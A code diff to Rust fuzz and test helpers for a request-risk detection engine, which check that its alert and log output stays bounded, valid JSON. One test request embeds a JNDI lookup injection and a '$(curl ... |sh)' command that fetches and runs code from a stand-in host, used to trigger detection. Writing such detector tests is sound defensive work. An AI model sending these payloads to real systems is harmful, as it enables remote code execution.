@@ -1,5 +1,8 @@
 //! What holds for all bytes that a client may send? The fuzz targets and the tests check the same.
 
+use std::cell::Cell;
+
+use user_risk_filter::clock::Timestamp;
 use user_risk_filter::decode::{ROUNDS, Views};
 use user_risk_filter::detect::category::Category;
 use user_risk_filter::detect::matcher::{Evidence, Verifier};
@@ -7,9 +10,17 @@ use user_risk_filter::detect::options::Options;
 use user_risk_filter::detect::rule_set::RuleSet;
 use user_risk_filter::detect::scan::{DETECTIONS, Detection, Scan, VALUE};
 use user_risk_filter::detect::verify::{self, Subject};
-use user_risk_filter::exchange::Head;
+use user_risk_filter::engine::config::Config;
+use user_risk_filter::engine::effect::Effect;
+use user_risk_filter::engine::stream::{Mark, Part, Stream};
+use user_risk_filter::engine::{Engine, Input};
+use user_risk_filter::exchange::proxy::Known;
+use user_risk_filter::exchange::{Head, Headers};
+use user_risk_filter::notify::callout::Reply;
 use user_risk_filter::read::place::Place;
 use user_risk_filter::read::{self, Body, Field};
+use user_risk_filter::secret::{Secret, Variable};
+use user_risk_filter::state::memory::Memory;
 use user_risk_filter::written;
 
 /// So much of a body is taken apart here, in bytes: less than by default, so that what lies beyond is met.
@@ -42,8 +53,11 @@ pub(crate) fn verify(value: &[u8]) {
     for (verifier, place) in Verifier::ALL.iter().zip(Place::ALL.iter().cycle().skip(value.len())) {
         let seen = |place: Place| {
             let mut seen: Vec<Evidence> = Vec::new();
-            let subject = Subject { view: &view, place, name: b"q", is_name: false, rounds: 0, odd: false };
+            let unread = Cell::new(0);
+            let unread = &unread;
+            let subject = Subject { view: &view, place, name: b"q", is_name: false, rounds: 0, odd: false, unread };
             verify::run(*verifier, &subject, &mut |evidence| seen.push(evidence));
+            assert!(unread.get() <= view.len(), "{verifier:?} leaves more than there is");
             seen
         };
         assert_eq!(seen(*place), seen(*place));
@@ -122,12 +136,104 @@ pub(crate) fn tune(data: &[u8]) {
     });
 }
 
+/// Everybody is told, and the application may speak of everybody.
+const TELLING: &str = r#"{
+    "application": {"clusters": ["app"]},
+    "user": {"anonymous": "address"},
+    "risk": {"anonymous_threshold": 10},
+    "notify": [
+        {"webhook": {"cluster": "c", "url": "https://h.example/risk", "secret": "whsec_bGFiLW9ubHktbGFiLW9ubHktbGFiLW9ubHktbGFi"}},
+        {"slack": {"cluster": "c", "url": "https://hooks.slack.com/services/T/B/x"}},
+        {"pagerduty": {"cluster": "c", "routing_key": "0123456789abcdef0123456789abcdef"}},
+        {"email": {"cluster": "c", "provider": "resend", "key": "k", "from": "risk@h.example", "to": ["team@h.example"]}}
+    ]
+}"#;
+/// The most that is sent or logged at once, in bytes.
+const TOLD: usize = 64 * 1024;
+
+/// A user, an address, a route and the header by which an application tells of events on a line each, then a request as for
+/// [`scan`]: whatever is sent and logged is JSON, bounded, and the same again.
+pub(crate) fn tell(data: &[u8]) {
+    let told = told(data);
+    assert!(told.len() <= 64, "{} messages and lines", told.len());
+    for text in &told {
+        assert!(text.len() <= TOLD && serde_json::from_str::<serde_json::Value>(text).is_ok(), "{text}");
+        assert!(!text.bytes().any(|byte| byte.is_ascii_control()), "{text:?}");
+    }
+    assert_eq!(told, self::told(data));
+}
+
+fn told(data: &[u8]) -> Vec<String> {
+    let (user, rest) = first_line(data);
+    let (address, rest) = first_line(rest);
+    let (route, rest) = first_line(rest);
+    let (events, rest) = first_line(rest);
+    let config = Config::load(TELLING.as_bytes(), &|_| Variable::Set(Secret::new("k")));
+    let cells = Memory::default();
+    let engine = Engine::new(config.unwrap_or_else(|mistake| panic!("{mistake}")).config, &cells, [1; 32]);
+    let now = Timestamp::from_millis(1_767_323_045_678);
+    let answer: Headers = [(&b"x-user-risk-event"[..], events)].into_iter().collect();
+    let proxy = Known::default()
+        .with(&["source", "address"], address)
+        .with(&["xds", "route_name"], route)
+        .with(&["xds", "cluster_name"], "app")
+        .answering(200, answer);
+    let mut effects = Vec::new();
+    // Enough to open an incident, then what was made up.
+    for data in [&b"GET /?a=${jndi:ldap://x.example/a}&b=$(curl+x.example|sh)"[..], rest] {
+        let (mut head, body) = request(data);
+        head.push((b"x-user-id", user));
+        let mut stream = Stream::default();
+        let mut on = |part| effects.extend(engine.on(Input::Stream(&mut stream, part), now));
+        on(Part::Head(Head::new(head.into_iter().collect())));
+        on(Part::Chunk(body));
+        for mark in [Mark::Arrived, Mark::Complete, Mark::Answered, Mark::End] {
+            on(Part::Mark(mark, &proxy));
+        }
+    }
+    let mut told = Vec::new();
+    for _ in 0..4 {
+        effects.extend(engine.on(Input::Beat, now));
+        for effect in std::mem::take(&mut effects) {
+            match effect {
+                Effect::Log(_, line) => told.push(line),
+                Effect::Call { ticket, request, .. } => {
+                    assert!(
+                        request.headers.iter().all(|(_, value)| value.bytes().all(|byte| matches!(byte, b' '..=b'~')))
+                    );
+                    told.push(String::from_utf8_lossy(&request.body).into_owned());
+                    let reply = Reply::Answer { status: 200, retry_after: None, body: Vec::new() };
+                    effects.extend(engine.on(Input::Answered(ticket, reply), now));
+                }
+                _ => {}
+            }
+        }
+    }
+    told
+}
+
 /// What is detected in a request that is written as for [`scan`].
 pub(crate) fn detections(rules: &RuleSet, data: &[u8]) -> Vec<Detection> {
     in_chunks(rules, data, usize::MAX)
 }
 
 fn in_chunks(rules: &RuleSet, data: &[u8], chunk: usize) -> Vec<Detection> {
+    let (pairs, rest) = request(data);
+    let head = Head::new(pairs.into_iter().collect());
+    let mut scan = Scan::new();
+    scan.begin(rules, &head);
+    let mut sink = |field: Field<'_>| scan.push(rules, field);
+    read::head(&head, &mut sink);
+    let mut body = Body::new(&head, BODY_LIMIT);
+    rest.chunks(chunk).for_each(|chunk| body.push(chunk, &mut sink));
+    body.finish(&mut sink);
+    scan.take()
+}
+
+type Pairs<'a> = Vec<(&'a [u8], &'a [u8])>;
+
+/// The pairs of a head, and the body.
+fn request(data: &[u8]) -> (Pairs<'_>, &[u8]) {
     let (line, mut rest) = first_line(data);
     let (method, target) = line
         .iter()
@@ -140,15 +246,7 @@ fn in_chunks(rules: &RuleSet, data: &[u8], chunk: usize) -> Vec<Detection> {
         let Some(at) = header.iter().position(|byte| *byte == b':') else { break };
         pairs.push((header.get(..at).unwrap_or_default(), header.get(at + 1..).unwrap_or_default().trim_ascii()));
     }
-    let head = Head::new(pairs.into_iter().collect());
-    let mut scan = Scan::new();
-    scan.begin(rules, &head);
-    let mut sink = |field: Field<'_>| scan.push(rules, field);
-    read::head(&head, &mut sink);
-    let mut body = Body::new(&head, BODY_LIMIT);
-    rest.chunks(chunk).for_each(|chunk| body.push(chunk, &mut sink));
-    body.finish(&mut sink);
-    scan.take()
+    (pairs, rest)
 }
 
 fn first_line(data: &[u8]) -> (&[u8], &[u8]) {
